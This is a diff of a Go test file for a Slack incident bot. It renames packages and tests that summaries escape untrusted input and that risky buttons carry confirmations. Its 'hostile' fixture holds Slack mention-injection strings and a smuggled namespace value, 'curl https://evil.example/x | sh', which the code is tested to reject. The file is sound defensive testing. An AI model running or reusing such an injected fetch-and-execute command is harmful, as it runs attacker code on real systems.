@@ -1,4 +1,4 @@
-package bot_test
+package slackmsg_test
 
 import (
 	"bytes"
@@ -14,9 +14,12 @@ import (
 	"time"
 	"unicode/utf16"
 
+	"github.com/warroom/warroom/bot/render/slackmsg"
+
+	"github.com/warroom/warroom/bot/render"
+
 	"github.com/slack-go/slack"
 
-	"github.com/warroom/warroom/bot"
 	"github.com/warroom/warroom/incident"
 )
 
@@ -49,7 +52,7 @@ func firing(name string, labels map[string]string, v float64) incident.Alert {
 // blocksViews are the summaries the golden files show.
 func blocksViews() []struct {
 	name string
-	v    bot.SummaryView
+	v    slackmsg.SummaryView
 } {
 	fresh := baseIncident()
 
@@ -64,7 +67,7 @@ func blocksViews() []struct {
 	resolvedAlert := firing("HighLatency", map[string]string{"pod": "payment-gateway-7d9f-2", "route": "/v1/refund"}, 0.012)
 	resolvedAlert.Status = incident.AlertResolved
 	from, to := three.OpenedAt.Add(-30*time.Minute).UnixMilli(), blocksNow.UnixMilli()
-	threeLinks := []bot.Link{
+	threeLinks := []render.Link{
 		{Kind: "jira", Title: "PAY-123", URL: "https://jira.example.com/browse/PAY-123"},
 		{Kind: "grafana", Title: "API golden signals", URL: fmt.Sprintf("https://grafana.example.com/d/api-golden/api?orgId=1&from=%d&to=%d&var-service=%s", from, to, url.QueryEscape("payment-gateway"))},
 		{Kind: "grafana", Title: "Payments | overview", URL: fmt.Sprintf("https://grafana.example.com/d/pay/payments?orgId=1&from=%d&to=%d", from, to)},
@@ -90,15 +93,15 @@ func blocksViews() []struct {
 	storm.TruncatedAlerts = 250
 	long := func(c string) string { return strings.Repeat(c, 120) }
 	var stormAlerts []incident.Alert
-	for i := range bot.SummaryAlerts {
+	for i := range render.SummaryAlerts {
 		c := string(rune('a' + i))
 		stormAlerts = append(stormAlerts, firing(long(c), map[string]string{
 			"pod": long(c + "p"), "instance": long(c + "i"), "route": long(c + "r"), "namespace": long(c + "n"),
 		}, 0.05))
 	}
-	var stormLinks []bot.Link
+	var stormLinks []render.Link
 	for i := range 60 {
-		stormLinks = append(stormLinks, bot.Link{Kind: "grafana", Title: fmt.Sprintf("%03d %s", i, long("g")),
+		stormLinks = append(stormLinks, render.Link{Kind: "grafana", Title: fmt.Sprintf("%03d %s", i, long("g")),
 			URL: fmt.Sprintf("https://grafana.example.com/d/board-%d/x?orgId=1", i)})
 	}
 
@@ -118,7 +121,7 @@ func blocksViews() []struct {
 		"alertname": "<!channel>", "pod": "<@U123>", "route": "<https://evil.example|click>", "instance": "&amp;",
 	}, Annotations: map[string]string{"description": annotation}}
 	evil2 := incident.Alert{Status: "<!here>", Labels: map[string]string{"team": "@here", "zone": "<!date^1|x>"}}
-	hostileLinks := []bot.Link{
+	hostileLinks := []render.Link{
 		{Kind: "grafana", Title: "<!channel> board <@U123>", URL: "https://grafana.example.com/d/x?var-service=" + url.QueryEscape("<!channel>|<@U123>")},
 		{Kind: "jaeger", Title: "&amp; traces", URL: "https://jaeger.example.com/x>y|<!channel>"},
 		{Kind: "runbook", Title: "entity", URL: "https://evil.example/?a=&lt;!channel&gt;"},
@@ -156,28 +159,28 @@ func blocksViews() []struct {
 
 	return []struct {
 		name string
-		v    bot.SummaryView
+		v    slackmsg.SummaryView
 	}{
-		{"fresh", bot.SummaryView{Incident: fresh, Now: blocksNow, TotalAlerts: 1, FiringAlerts: 1,
+		{"fresh", slackmsg.SummaryView{Incident: fresh, Now: blocksNow, TotalAlerts: 1, FiringAlerts: 1,
 			Alerts: []incident.Alert{firing("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-1", "route": "/v1/charge"}, 0.0311)}}},
-		{"three-alerts", bot.SummaryView{Incident: three, Now: blocksNow, TotalAlerts: 3, FiringAlerts: 2, Links: threeLinks,
+		{"three-alerts", slackmsg.SummaryView{Incident: three, Now: blocksNow, TotalAlerts: 3, FiringAlerts: 2, Links: threeLinks,
 			Rollback: "Roll back payment-gateway to v1.42.0 (a1b2c3d by alice, 10:02 UTC): errors rose 4 minutes after v1.43.0 (e4f5a6b).",
 			Alerts: []incident.Alert{
 				firing("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-1", "route": "/v1/charge"}, 0.0311),
 				firing("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-2", "route": "/v1/charge"}, 0.027),
 				resolvedAlert,
 			}}},
-		{"resolved", bot.SummaryView{Incident: resolved, Now: blocksNow, TotalAlerts: 1, FiringAlerts: 0,
+		{"resolved", slackmsg.SummaryView{Incident: resolved, Now: blocksNow, TotalAlerts: 1, FiringAlerts: 0,
 			Links:  threeLinks[:1],
 			Alerts: []incident.Alert{resolvedAlert}}},
-		{"storm", bot.SummaryView{Incident: storm, Now: blocksNow, TotalAlerts: 500, FiringAlerts: 480, Alerts: stormAlerts, Links: stormLinks}},
-		{"hostile", bot.SummaryView{Incident: hostile, Now: blocksNow, TotalAlerts: 2, FiringAlerts: 1, Links: hostileLinks,
+		{"storm", slackmsg.SummaryView{Incident: storm, Now: blocksNow, TotalAlerts: 500, FiringAlerts: 480, Alerts: stormAlerts, Links: stormLinks}},
+		{"hostile", slackmsg.SummaryView{Incident: hostile, Now: blocksNow, TotalAlerts: 2, FiringAlerts: 1, Links: hostileLinks,
 			// What the summary says when the rule's command would take a
 			// label that is not of its kind: no command, and why.
 			Rollback: "<!here> roll back to <https://evil.example|v1> & fast. No command: rollback suggestion withheld: " +
 				`label namespace "<!channel>; curl https://evil.example/x | sh #" is not a Kubernetes name.`,
 			Alerts: []incident.Alert{evil, evil2}}},
-		{"declared", bot.SummaryView{Incident: declared, Now: blocksNow}},
+		{"declared", slackmsg.SummaryView{Incident: declared, Now: blocksNow}},
 	}
 }
 
@@ -194,11 +197,11 @@ func renderJSON(t *testing.T, blocks []slack.Block) []byte {
 }
 
 // TestSummaryGolden compares each view's blocks with its golden file;
-// go test ./bot -run Golden -update rewrites them.
+// go test ./bot/render/slackmsg -run Golden -update rewrites them.
 func TestSummaryGolden(t *testing.T) {
 	for _, tc := range blocksViews() {
 		t.Run(tc.name, func(t *testing.T) {
-			got := renderJSON(t, bot.SummaryBlocks(tc.v))
+			got := renderJSON(t, slackmsg.SummaryBlocks(tc.v))
 			path := filepath.Join("testdata", "golden", tc.name+".json")
 			if *update {
 				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
@@ -211,7 +214,7 @@ func TestSummaryGolden(t *testing.T) {
 			}
 			want, err := os.ReadFile(path)
 			if err != nil {
-				t.Fatalf("%v (run go test ./bot -run Golden -update)", err)
+				t.Fatalf("%v (run go test ./bot/render/slackmsg -run Golden -update)", err)
 			}
 			if !bytes.Equal(got, want) {
 				t.Errorf("blocks differ from %s (run with -update and review the diff):\n%s", path, got)
@@ -293,8 +296,8 @@ func utf16Len(s string) int { return len(utf16.Encode([]rune(s))) }
 func TestSummaryBlocksSafe(t *testing.T) {
 	for _, tc := range blocksViews() {
 		t.Run(tc.name, func(t *testing.T) {
-			blocks := bot.SummaryBlocks(tc.v)
-			if err := bot.ValidateBlocks(blocks); err != nil {
+			blocks := slackmsg.SummaryBlocks(tc.v)
+			if err := slackmsg.ValidateBlocks(blocks); err != nil {
 				t.Fatalf("ValidateBlocks: %v", err)
 			}
 			users := map[string]bool{}
@@ -331,7 +334,7 @@ func TestSummaryBlocksSafe(t *testing.T) {
 					t.Errorf("%s: untrusted <@U123> became a mention", where)
 				}
 			}
-			fallback := bot.SummaryFallback(tc.v)
+			fallback := slackmsg.SummaryFallback(tc.v)
 			checkMrkdwn(t, "fallback", fallback, nil, nil)
 			if strings.Contains(fallback, "\n") || utf16Len(fallback) > 400 {
 				t.Errorf("fallback is not one short line: %q", fallback)
@@ -342,13 +345,13 @@ func TestSummaryBlocksSafe(t *testing.T) {
 
 // TestSummaryBlocksContent checks what the goldens are meant to show.
 func TestSummaryBlocksContent(t *testing.T) {
-	views := map[string]bot.SummaryView{}
+	views := map[string]slackmsg.SummaryView{}
 	for _, tc := range blocksViews() {
 		views[tc.name] = tc.v
 	}
 	all := func(name string) string {
 		var b strings.Builder
-		for _, o := range textObjects(t, bot.SummaryBlocks(views[name])) {
+		for _, o := range textObjects(t, slackmsg.SummaryBlocks(views[name])) {
 			b.WriteString(o["text"].(string) + "\n")
 		}
 		return b.String()
@@ -400,15 +403,15 @@ func TestBlocksButtons(t *testing.T) {
 		actions []string
 		primary string
 	}{
-		{incident.Triggered, []string{bot.ActionAck, bot.ActionMitigate, bot.ActionResolve, bot.ActionRollback, bot.ActionSilence}, bot.ActionAck},
-		{incident.Acknowledged, []string{bot.ActionMitigate, bot.ActionResolve, bot.ActionRollback, bot.ActionSilence}, bot.ActionMitigate},
-		{incident.Mitigated, []string{bot.ActionResolve, bot.ActionRollback, bot.ActionSilence}, bot.ActionResolve},
+		{incident.Triggered, []string{slackmsg.ActionAck, slackmsg.ActionMitigate, slackmsg.ActionResolve, slackmsg.ActionRollback, slackmsg.ActionSilence}, slackmsg.ActionAck},
+		{incident.Acknowledged, []string{slackmsg.ActionMitigate, slackmsg.ActionResolve, slackmsg.ActionRollback, slackmsg.ActionSilence}, slackmsg.ActionMitigate},
+		{incident.Mitigated, []string{slackmsg.ActionResolve, slackmsg.ActionRollback, slackmsg.ActionSilence}, slackmsg.ActionResolve},
 		{incident.Resolved, nil, ""},
 	} {
 		inc := baseIncident()
 		inc.State = c.state
 		var got []string
-		for _, b := range bot.SummaryBlocks(bot.SummaryView{Incident: inc, Now: blocksNow}) {
+		for _, b := range slackmsg.SummaryBlocks(slackmsg.SummaryView{Incident: inc, Now: blocksNow}) {
 			a, ok := b.(*slack.ActionBlock)
 			if !ok {
 				continue
@@ -422,12 +425,12 @@ func TestBlocksButtons(t *testing.T) {
 				if (btn.Style == slack.StylePrimary) != (btn.ActionID == c.primary) {
 					t.Errorf("%s: %s style %q", c.state, btn.ActionID, btn.Style)
 				}
-				risky := btn.ActionID == bot.ActionRollback || btn.ActionID == bot.ActionSilence
+				risky := btn.ActionID == slackmsg.ActionRollback || btn.ActionID == slackmsg.ActionSilence
 				if risky && (btn.Confirm == nil || btn.Confirm.Deny == nil || btn.Confirm.Deny.Text != "Cancel" ||
 					!strings.Contains(btn.Confirm.Text.Text, inc.ID)) {
 					t.Errorf("%s: %s needs a confirm dialog naming %s with Cancel: %+v", c.state, btn.ActionID, inc.ID, btn.Confirm)
 				}
-				if btn.ActionID == bot.ActionRollback && (btn.Confirm.Confirm.Text != "Roll back" || btn.Style != slack.StyleDanger) {
+				if btn.ActionID == slackmsg.ActionRollback && (btn.Confirm.Confirm.Text != "Roll back" || btn.Style != slack.StyleDanger) {
 					t.Errorf("rollback button: style %q, confirm %q", btn.Style, btn.Confirm.Confirm.Text)
 				}
 			}
@@ -444,8 +447,8 @@ func TestBlocksHeaderCut(t *testing.T) {
 	for k := range 12 {
 		inc := baseIncident()
 		inc.Title = strings.Repeat("x", k) + strings.Repeat("&<>", 200)
-		blocks := bot.SummaryBlocks(bot.SummaryView{Incident: inc, Now: blocksNow})
-		if err := bot.ValidateBlocks(blocks); err != nil {
+		blocks := slackmsg.SummaryBlocks(slackmsg.SummaryView{Incident: inc, Now: blocksNow})
+		if err := slackmsg.ValidateBlocks(blocks); err != nil {
 			t.Fatalf("k=%d: %v", k, err)
 		}
 		h := blocks[0].(*slack.HeaderBlock).Text.Text
@@ -457,7 +460,7 @@ func TestBlocksHeaderCut(t *testing.T) {
 	// Characters outside the BMP count twice (UTF-16), so 150 emoji do not fit.
 	inc := baseIncident()
 	inc.Title = strings.Repeat("🔥", 150)
-	h := bot.SummaryBlocks(bot.SummaryView{Incident: inc, Now: blocksNow})[0].(*slack.HeaderBlock).Text.Text
+	h := slackmsg.SummaryBlocks(slackmsg.SummaryView{Incident: inc, Now: blocksNow})[0].(*slack.HeaderBlock).Text.Text
 	if n := utf16Len(h); n > 150 {
 		t.Errorf("emoji header is %d UTF-16 units", n)
 	}
@@ -478,7 +481,7 @@ func TestBlocksFallback(t *testing.T) {
 	for _, c := range cases {
 		i := *inc
 		c.edit(&i)
-		if got := bot.SummaryFallback(bot.SummaryView{Incident: &i, Now: blocksNow}); got != c.want {
+		if got := slackmsg.SummaryFallback(slackmsg.SummaryView{Incident: &i, Now: blocksNow}); got != c.want {
 			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
 		}
 	}
@@ -509,13 +512,13 @@ func TestAnnounceText(t *testing.T) {
 	for _, c := range cases {
 		inc := baseIncident()
 		c.edit(inc)
-		if got := bot.AnnounceText(inc, c.channel); got != c.want {
+		if got := slackmsg.AnnounceText(inc, c.channel); got != c.want {
 			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
 		}
 	}
 	inc := baseIncident()
 	inc.Title = strings.Repeat("&", 10000)
-	if got := bot.AnnounceText(inc, "C1"); utf16Len(got) > 400 {
+	if got := slackmsg.AnnounceText(inc, "C1"); utf16Len(got) > 400 {
 		t.Errorf("long title: announce is %d characters", utf16Len(got))
 	}
 }
@@ -546,11 +549,11 @@ func TestChangeText(t *testing.T) {
 		{ev("<!channel>", "U1", "x"), "&lt;!channel&gt; by <@U1>: x"},
 	}
 	for _, c := range cases {
-		if got := bot.ChangeText(c.ev); got != c.want {
+		if got := slackmsg.ChangeText(c.ev); got != c.want {
 			t.Errorf("%s by %s:\n got %q\nwant %q", c.ev.Kind, c.ev.Actor, got, c.want)
 		}
 	}
-	long := bot.ChangeText(ev(incident.EventNote, "U1", strings.Repeat("<", 10000)))
+	long := slackmsg.ChangeText(ev(incident.EventNote, "U1", strings.Repeat("<", 10000)))
 	if n := utf16Len(long); n > 2100 || !strings.HasSuffix(long, "…") {
 		t.Errorf("long note: %d characters", n)
 	}
@@ -561,17 +564,17 @@ func TestResolutionText(t *testing.T) {
 	inc := baseIncident()
 	inc.State = incident.Resolved
 	inc.PeakValue = num(0.0311)
-	if got, want := bot.ResolutionText(inc, blocksNow), "INC-7 resolved after 1h 23m; peak 3.11% (threshold 0.8%)"; got != want {
+	if got, want := slackmsg.ResolutionText(inc, blocksNow), "INC-7 resolved after 1h 23m; peak 3.11% (threshold 0.8%)"; got != want {
 		t.Errorf("got %q, want %q", got, want)
 	}
 	at := inc.OpenedAt.Add(26*time.Hour + 5*time.Minute)
 	inc.ResolvedAt = &at
 	inc.Threshold = nil
-	if got, want := bot.ResolutionText(inc, blocksNow), "INC-7 resolved after 1d 2h; peak 3.11%"; got != want {
+	if got, want := slackmsg.ResolutionText(inc, blocksNow), "INC-7 resolved after 1d 2h; peak 3.11%"; got != want {
 		t.Errorf("ResolvedAt wins over now: got %q, want %q", got, want)
 	}
 	inc.ResolvedAt, inc.Value, inc.PeakValue = nil, nil, nil
-	if got, want := bot.ResolutionText(inc, inc.OpenedAt.Add(42*time.Second)), "INC-7 resolved after 42s"; got != want {
+	if got, want := slackmsg.ResolutionText(inc, inc.OpenedAt.Add(42*time.Second)), "INC-7 resolved after 42s"; got != want {
 		t.Errorf("no value: got %q, want %q", got, want)
 	}
 }
@@ -591,7 +594,7 @@ func TestValidateBlocks(t *testing.T) {
 	}
 	actions := func(els ...slack.BlockElement) slack.Block { return slack.NewActionBlock("", els...) }
 	confirmed := func(title, text, ok, deny string) slack.Block {
-		return actions(btn("Roll back", bot.ActionRollback, "INC-7").WithConfirm(
+		return actions(btn("Roll back", slackmsg.ActionRollback, "INC-7").WithConfirm(
 			slack.NewConfirmationBlockObject(plain(title), plain(text), plain(ok), plain(deny))))
 	}
 	many := func(n int, mk func(i int) slack.Block) []slack.Block {
@@ -670,7 +673,7 @@ func TestValidateBlocks(t *testing.T) {
 		{"divider", []slack.Block{slack.NewDividerBlock()}, ""},
 	}
 	for _, c := range cases {
-		err := bot.ValidateBlocks(c.blocks)
+		err := slackmsg.ValidateBlocks(c.blocks)
 		switch {
 		case c.err == "" && err != nil:
 			t.Errorf("%s: unexpected error %v", c.name, err)
